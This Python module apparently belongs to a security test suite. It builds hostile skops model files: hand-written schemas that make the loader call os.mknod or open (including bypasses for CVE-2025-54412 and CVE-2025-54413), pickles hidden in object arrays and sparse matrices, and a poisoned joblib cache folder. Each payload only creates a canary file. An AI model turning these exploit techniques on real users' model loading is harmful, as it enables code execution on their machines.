"""Hostile files for skops, their schemas written by hand; no formats here.

The author's list of types stays as it was: only the zip is replaced. Where the schema itself calls
a function, that is `os.mknod` or `builtins.open`, which create the canary.
"""

from __future__ import annotations

import contextlib
import glob
import io
import json
import os
import pickle
import zipfile
from typing import Any, Callable, Dict, List, Optional

from ..registry import Attack, Canary, Unsupported

Load = Callable[[str], Any]
Node = Dict[str, Any]
Schema = Callable[[str], Node]
PROTOCOL = 2


def attacks(author: Callable[[str], None], strict: Load, data: Any) -> List[Attack]:
    """`author(path)` saves an honest model with its list; then somebody else's file lies there."""

    def swapped(how: str, schema: Schema, load: Load = strict, protocol: int = PROTOCOL) -> Attack:
        def plant(path: str, canary: str) -> None:
            author(path)
            _write(path, schema(canary), protocol, _hidden(canary))

        return Attack("strict" if load is strict else "lax", how, plant, load)

    def fallen_back(path: str, canary: str) -> None:
        author(path)
        with open(path, "wb") as file:
            pickle.dump(Canary(canary), file)

    said = "types listed by get_untrusted_types: "
    refilled = "scikit-learn's own classes: a stack that fits a pipeline whose memory is a folder"
    return [
        swapped("a dictionary whose keys are made by os.mknod", _key),
        swapped("operator.call under a class's name (CVE-2025-54412)", _call_disguised),
        swapped("a method under another object's class (CVE-2025-54413)", _method_disguised),
        swapped("a constructor called with the file's own arguments", _constructor),
        swapped("a function as protocol 0 named it", _old_function, protocol=0),
        swapped("a pickle within an array of objects", _array),
        swapped("a pickle within a sparse matrix", _sparse),
        Attack("strict", "a pickle in place of the zip", fallen_back, strict),
        Attack("strict", refilled, _memory(author, data), strict),
        swapped(said + "a dictionary whose keys are made by os.mknod", _key, _all_trusted),
        swapped(said + "operator.call of open", _call, _all_trusted),
        Attack("lax", "a pickle that a model card loads, allow_pickle=True", fallen_back, _card),
    ]


def _all_trusted(path: str) -> Any:
    """How people load whatever it is that a file asks for."""
    import skops.io

    return skops.io.load(path, trusted=skops.io.get_untrusted_types(file=path))


def _card(path: str) -> Any:
    from skops.card import Card

    return Card(path, allow_pickle=True).get_model()


# -- schemas -------------------------------------------------------------------------------------


def _node(path: str, loader: str, **more: Any) -> Node:
    module, _, name = path.rpartition(".")
    return dict({"__class__": name, "__module__": module, "__loader__": loader}, **more)


def _text(value: str) -> Node:
    return _node("builtins.str", "JsonNode", content=json.dumps(value), is_json=True)


def _many(kind: str, *nodes: Node) -> Node:
    return _node("builtins." + kind, kind.capitalize() + "Node", content=list(nodes))


def _keyed(key: str, maker: Node) -> Node:
    """A dictionary with one key, which is made by calling what `maker` stands for."""
    types = _many("list", maker)
    return _node("builtins.dict", "DictNode", content={key: _text("x")}, key_types=types)


def _opening(canary: str) -> Node:
    opener = _node("builtins.open", "FunctionNode")
    return _many("tuple", opener, _text(canary), _text("w"))


def _key(canary: str) -> Node:
    return _keyed(canary, _node("os.mknod", "TypeNode"))


def _call(canary: str) -> Node:
    return _node("operator.call", "OperatorFuncNode", attrs=_opening(canary))


def _call_disguised(canary: str) -> Node:
    trusted = "sklearn.linear_model._stochastic_gradient.SGDRegressor.call"
    return _node(trusted, "OperatorFuncNode", attrs=_opening(canary))


def _method_disguised(canary: str) -> Node:
    owner = _node("os.mknod", "TypeNode")
    bound = {"func": "__call__", "obj": owner}
    return _keyed(canary, _node("builtins.str", "MethodNode", content=bound))


def _constructor(canary: str) -> Node:
    arguments = _many("tuple", _text(canary), _text("w"))
    return _node("_io.FileIO", "ConstructorFromReduceNode", content=arguments)


def _old_function(canary: str) -> Node:
    named = {"module_path": "os", "function": "mknod"}
    return _keyed(canary, _node("numpy.exp", "FunctionNode", content=named))


def _array(canary: str) -> Node:
    return _node("numpy.ndarray", "NdArrayNode", type="numpy", file="hostile.npy")


def _sparse(canary: str) -> Node:
    trusted = "scipy.sparse._matrix.spmatrix"
    return _node(trusted, "SparseMatrixNode", type="scipy", file="hostile.npz")


def _hidden(canary: str) -> Dict[str, bytes]:
    """An array, and a sparse matrix of such arrays, whose object is a pickle."""
    import numpy

    array = io.BytesIO()
    numpy.save(array, numpy.array([Canary(canary)], dtype=object), allow_pickle=True)
    matrix = io.BytesIO()
    with zipfile.ZipFile(matrix, "w") as archive:
        for name in ("format", "shape", "data", "indices", "indptr"):
            archive.writestr(name + ".npy", array.getvalue())
    return {"hostile.npy": array.getvalue(), "hostile.npz": matrix.getvalue()}


def _write(path: str, schema: Node, protocol: int, files: Optional[Dict[str, bytes]]) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in (files or {}).items():
            archive.writestr(name, content)
        top = dict(schema, protocol=protocol, _skops_version="0.16.0")
        archive.writestr("schema.json", json.dumps(top))


# -- scikit-learn's own classes --------------------------------------------------------------------


def _memory(author: Callable[[str], None], data: Any) -> Callable[[str, str], None]:
    """A model that asks for no type, and a folder beside it with pickles that it will load.

    Asked to predict, a stack calls the methods that its file names; here `fit` of a pipeline, which
    joblib spares by loading what it finds in the folder for the same input. The first step makes
    the input of the second the same for all rows without a hole, so their values need not be known.
    """

    def plant(path: str, canary: str) -> None:
        import joblib
        import skops.io

        author(path)
        folder = path + ".memory"
        skops.io.dump(_stack(folder), path)
        with contextlib.suppress(Exception):  # it fills the folder, then has nothing to answer
            skops.io.load(path, trusted=[]).predict(data.ask)
        found = glob.glob(os.path.join(folder, "**", "output.pkl"), recursive=True)
        if not found:
            raise Unsupported("these rows are nothing that the first step can take")
        for name in found:
            joblib.dump(Canary(canary), name)

    return plant


def _stack(folder: str) -> Any:
    """Attributes that only a fit would set, set by hand."""
    import numpy
    from sklearn.dummy import DummyClassifier
    from sklearn.ensemble import StackingClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    steps = [("a", numpy.isnan), ("b", numpy.isnan)]
    pipeline = Pipeline(
        [(name, FunctionTransformer(ufunc)) for name, ufunc in steps] + [("c", "passthrough")],
        memory=folder,
    )
    stack = StackingClassifier([("p", pipeline)])
    stack.estimators_, stack.stack_method_ = [pipeline], ["fit"]
    stack.final_estimator_ = DummyClassifier()
    return stack
